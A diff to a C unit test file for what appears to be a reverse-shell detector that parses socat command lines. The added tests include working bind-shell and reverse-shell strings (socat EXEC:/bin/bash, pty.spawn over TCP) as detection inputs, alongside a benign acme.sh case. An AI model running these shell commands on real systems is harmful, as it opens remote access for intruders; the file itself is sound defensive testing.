@@ -91,6 +91,7 @@ test_socat(void **st)
 	assert_int_equal(c.a1, ADDR_EXEC);
 	assert_int_equal(c.a2, ADDR_CONNECT);
 	assert_string_equal(c.exec, "'bash -li',pty,stderr,setsid,sigint,sane");
+	assert_true(c.exec_shell);
 	assert_true(acc_parse_socat(S("socat - TCP:h:1"), &c));
 	assert_int_equal(c.a1, ADDR_STDIO);
 	assert_true(acc_parse_socat(S("socat -b 8192 UNIX-LISTEN:/x "
@@ -238,6 +239,14 @@ test_revshell_cmd(void **st)
 	assert_null(acc_revshell_cmd(S("nc -zv 10.0.0.1 22")));
 	assert_null(acc_revshell_cmd(S("python3 /usr/bin/unattended-upgrade")));
 	assert_null(acc_revshell_cmd(S("socat TCP-LISTEN:1 TCP:h:2")));
+	/* acme.sh's standalone mode answers the challenge with SYSTEM: */
+	assert_null(acc_revshell_cmd(S("socat -4 TCP-LISTEN:80,crlf,reuseaddr,"
+	    "fork SYSTEM:sleep 1; echo 'HTTP/1.0 200 OK'; echo "
+	    "'Content-Length\\: 87'; echo ''; printf '%s' 'tok.en';")));
+	assert_non_null(acc_revshell_cmd(S("socat TCP-LISTEN:4444,fork "
+	    "EXEC:/bin/bash,pty,stderr")));
+	assert_non_null(acc_revshell_cmd(S("socat tcp:10.0.0.1:1 "
+	    "system:'python3 -c import pty;pty.spawn(\"sh\")'")));
 	assert_null(acc_revshell_cmd(S("")));
 }
 
